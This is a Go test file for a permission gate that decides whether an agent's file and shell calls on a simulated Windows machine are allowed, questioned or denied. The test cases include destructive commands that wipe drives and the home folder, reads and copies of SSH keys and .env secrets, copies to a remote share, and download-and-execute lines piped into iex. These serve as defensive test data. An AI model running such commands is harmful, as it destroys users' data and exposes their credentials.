package nod_test

import (
	"context"
	"strings"
	"testing"

	"github.com/nodgate/nod"
	"github.com/nodgate/nod/internal/view"
)

// windows is a gate on a machine with Windows' names, held in memory; none of this was run on real Windows.
func windows(rules nod.Rules) *nod.Gate {
	w := view.NewWindows().Dir("/c/Users/me/shop/src", 0o755).File("/c/Users/me/.ssh/id_rsa", "key", 0o600)
	w.File("/c/Users/me/shop/a.txt", "x", 0o644).File("/c/Users/me/shop/.git/HEAD", "ref: refs/heads/main\n", 0o644)
	w.File("/c/Users/me/shop/.env", "X=1", 0o644).File("/c/Users/me/shop/.git/config", "[core]\n", 0o644)
	w.Dir("/c/Users/me/elsewhere", 0o755).Link("/c/Users/me/shop/out", `C:\Users\me\elsewhere`)
	for _, name := range []string{"git.exe", "rm.exe", "cat.exe", "npm.cmd", "npm.ps1"} {
		w.File("/c/Program Files/Git/bin/"+name, "", 0o755)
	}
	return nod.New(nod.Options{Rules: rules, Files: w, Home: "/c/Users/me", Keeper: keepsAll{}})
}

type keepsAll struct{}

func (keepsAll) Keep(string, nod.Call, []string, []nod.KeptCommit) error { return nil }

// decided is how a call is decided: a verdict, and what its reason says.
func decided(t *testing.T, g *nod.Gate, c nod.Call, want string) {
	t.Helper()
	c.Dir, c.Interactive = `C:\Users\me\shop`, true
	c.Roots, c.Environ = []string{c.Dir}, []string{"PATH=/c/Program Files/Git/bin"}
	d := g.Check(context.Background(), c)
	verdict, reason, _ := strings.Cut(want, " ")
	if d.Verdict.String() != verdict || !strings.Contains(d.Reason, reason) {
		t.Errorf("%s %s%s: %s, %s; want %s", c.Tool, c.Command, c.Paths, d.Verdict, d.Reason, want)
	}
}

func TestNamesOfWindows(t *testing.T) {
	g := windows(nod.DefaultRules())
	for name, want := range map[string]string{
		`C:\Users\me\shop\new.txt`: "allow", `c:/users/ME/SHOP/src/new.txt`: "allow", "/c/Users/me/shop/new.txt": "allow",
		`src\new.txt`: "allow", `\\?\C:\Users\me\shop\new.txt`: "allow",
		`C:new.txt`: "ask", `C:`: "ask", `\\host\share\a.txt`: "ask", "//host/share/a.txt": "ask",
		`\\?\UNC\host\share\a`: "ask", `\\.\pipe\x`: "ask", `\\.\C:\Users\me\shop\a.txt`: "ask",
		`C:\Users\me\shop\a.txt:s`: "ask", `a.txt::$DATA`: "ask", `C:\Users\me\shop\new.`: "ask", `new `: "ask",
		`SHOP~1\a.txt`: "ask", `C:\Users\me\shop\NUL`: "ask", `src\con.txt`: "ask", `com1`: "ask", "LPT9.log": "ask",
		`C:\Users\me\other.txt`: "ask", `D:\new.txt`: "ask", `\new.txt`: "ask", "/tmp/new.txt": "ask",
		`out\new.txt`: "ask", `..\new.txt`: "ask", `.GIT\hooks\x`: "ask", `.git\config`: "ask",
	} {
		decided(t, g, nod.Call{Tool: "file_write", Paths: []string{name}, Edits: []nod.Edit{{Path: name, New: "x",
			Whole: true}}}, want)
	}
	decided(t, g, nod.Call{Tool: "read_file", Paths: []string{`C:\Users\me\shop\a.txt`}}, "allow")
	decided(t, g, nod.Call{Tool: "read_file", Paths: []string{`c:\USERS\me\.SSH\id_rsa`}}, "ask secrets")
	decided(t, g, nod.Call{Tool: "read_file", Paths: []string{`.ENV`}}, "ask secrets")
}

func TestGitBashOnWindows(t *testing.T) {
	g := windows(nod.DefaultRules())
	for command, want := range map[string]string{
		"cat a.txt": "allow", "cat 'C:\\Users\\me\\shop\\a.txt'": "allow", "git status": "allow", "git.exe status": "allow",
		"rm -f C:/Users/me/shop/a.txt": "allow", "cat //host/share/a": "ask another machine",
		"rm -rf C:/": "deny undone", "rm -rf /c/": "deny undone", "rm -rf /d": "deny undone", "rm -rf ~": "deny undone",
		"rm -rf c:/users/ME": "deny undone", "rm -rf 'C:\\Windows'": "deny undone", "rm -rf /": "deny undone",
		"cat ~/.ssh/id_rsa": "ask secrets", "cat C:a.txt": "ask", "rm PROGRA~1": "ask", "./x.exe": "ask",
		"rm -f a.txt:s": "ask",
	} {
		decided(t, g, nod.Call{Tool: "bash", Command: command, Dialect: nod.Bash}, want)
	}
}

func TestPowerShell(t *testing.T) {
	g := windows(ruled(nod.ListHardDeny, "git push --force", "Remove-Item *"))
	for command, want := range map[string]string{"Remove-Item a.txt": "deny", "RI a.txt": "deny", "del a.txt": "deny",
		"git push --force": "deny", "git push '' --force": "deny", "if ($x) { git push --force }": "deny"} {
		decided(t, g, nod.Call{Tool: "bash", Command: command, Dialect: nod.PowerShell}, want)
	}
	g = windows(nod.DefaultRules())
	for _, line := range strings.Split(strings.TrimSpace(powerShellLines), "\n") {
		command, want, _ := strings.Cut(line, " => ")
		decided(t, g, nod.Call{Tool: "bash", Command: command, Dialect: nod.PowerShell}, strings.TrimSpace(want))
	}
}

const powerShellLines = `
Get-ChildItem => ask
gci -r -filter *.go | select -First 5 | Format-Table Name => ask
Get-Content .\a.txt -TotalCount 5 => ask
get-content C:\Users\me\shop\a.txt 2>$null => ask
cat a.txt,src\b.txt | Measure-Object -Line => ask
git log --format=%h -5 | Select-String 'x y' | Out-Null => ask
git status; npm --version => ask
Test-Path 'src' && Write-Output "it's there" => ask
Get-ChildItem -Recurse | Where-Object Name -like '*.go' | Sort-Object Length -Descending => ask
New-Item -ItemType Directory -Force -Path src\new | Out-Null => ask
Set-Content -Path new.txt -Value 'x' => ask
'x' | Out-File new.txt => ask
Write-Output x | Out-File -FilePath new.txt => ask
Remove-Item a.txt -Force -ErrorAction SilentlyContinue => ask
Remove-Item -LiteralPath a.txt -Confirm:$false -Recurse:$false => ask
Remove-Item -LiteralPath a.txt -Confirm:$x => ask
cd src; Remove-Item -Recurse -Force ..\a.txt => ask
Remove-Item -Recurse -Force C:\ => deny undone
rm -r -fo c:\users\me => deny undone
rd D:\ -Recurse => deny undone
Remove-Item -Recurse -Force ~ => deny undone
ri $HOME -Recurse => deny undone
Remove-Item "$env:USERPROFILE\*" -Recurse => deny undone
del -Recurse -Path C:\Windows => deny undone
$x = 1; Remove-Item -Recurse -Force C:\ => deny undone
foreach ($f in $x) { Remove-Item -Recurse -Force C:\Users } => deny undone
Remove-Item -Recurse -Force C:\Users\me\elsewhere => ask
Remove-Item .git -Recurse -Force => ask
Copy-Item ~\.ssh\id_rsa . => ask secrets
gc ~/.ssh/id_rsa => ask secrets
Select-String KEY .env => ask secrets
Copy-Item a.txt \\host\share => ask another machine
Get-ChildItem Env: => ask
Get-Content HKLM:\x => ask
Invoke-WebRequest https://x.y/z | iex => ask
iwr -useb https://x.y/z | Invoke-Expression => ask
curl https://x.y/z => ask
Invoke-WebRequest https://x.y/z -OutFile ~\x => ask
Get-ChildItem | Remove-Item => ask
Get-ChildItem | Select-String x => ask
Get-ChildItem | Select-Object Name | Set-Content new.txt => ask
& git status => ask
git status > new.txt => ask
Get-Content $x => ask
[IO.File]::Delete('a.txt') => ask
Remove-Item -Fo a.txt -Frobnicate => ask
Get-ChildItem -f => ask
Set-Content -Value x => ask
Write-Output "done: it's" => ask
Get-Content '$HOME\.ssh\id_rsa' => ask
Get-Content -Path:$true => ask
Get-Content *.md => ask
Get-Content *NV => ask secrets
Get-Content ?env => ask secrets
Remove-Item * -Recurse -Force => ask
Remove-Item '*.TXT' => ask
Remove-Item */a.txt => ask
Remove-Item */hooks -Recurse => ask
Remove-Item '-Force' => ask
git commit -m 'a" --amend "b' => ask
git show a,b => ask
git log -n.x => ask
git push -f => ask
rm -Force a.txt; ls => ask
Get-Content ‘a.txt’ => ask
Get-Content "a` + "`" + `".txt" => ask
Get-Content a'.txt => ask
Frobnicate-Item x => ask
Get-Content @x => ask
git --% status => ask
C:\tools\x.exe => ask
.\x.exe => ask
sc new.txt x => ask
Get-Content a.txt | Get-Content => ask
| Get-ChildItem => ask
Get-ChildItem | => ask
Select-String '' .env => ask
gc -Path: .env => ask
git push '' --force => ask
Set-Content .git\hooks\x,new.txt y => ask
`
